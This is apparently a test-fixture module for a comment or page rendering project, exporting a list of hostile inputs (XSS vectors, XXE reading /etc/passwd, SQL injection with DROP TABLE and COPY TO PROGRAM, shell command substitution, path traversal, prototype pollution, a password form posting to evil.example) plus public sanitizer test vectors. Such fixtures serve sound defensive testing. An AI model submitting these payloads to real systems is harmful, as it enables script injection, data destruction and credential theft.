import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

const own = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<form action=https://evil.example><input name=password>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<details open ontoggle=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<%= 7 * 7 %>',
  '${7 * 7}{{7 * 7}}#{7 * 7}',
  '{{constructor.constructor("alert(1)")()}}',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '\\"};alert(1);//',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  "' OR 1=1; DROP TABLE comments; --",
  "'; COPY comments TO PROGRAM 'id'; --",
  '$(id)`id`|id;id&&id',
  '../../../../etc/passwd',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  '"content_html": "<b>bold</b>", "_comment": {"status": "published"}',
  '{"__proto__": {"status": "published"}}',
  'data: {"type":"published"}\n\nevent: comment\nid: 1\n\n',
];

/**
 * Real attacks of text on pages, programs and databases: of the shared data, where that folder is there (see `CALLBOX_SHARED`
 * in CONTRIBUTING.md), and a list of our own, which is there everywhere.
 */
export function attacks(folder = process.env.CALLBOX_SHARED ?? '../shared/data'): string[] {
  const read = (name: string) => {
    const path = join(resolve(folder), 'attacks', name);
    return existsSync(path) ? readFileSync(path, 'utf8') : undefined;
  };
  const sanitizer = JSON.parse(read('dompurify-expect.json') ?? '[]') as { payload: string }[];
  const cheatSheet = (read('h5sc-vectors.txt') ?? '').split(/<div id="\d+">/).slice(1);
  return [...own, ...sanitizer.map(({ payload }) => payload), ...cheatSheet];
}
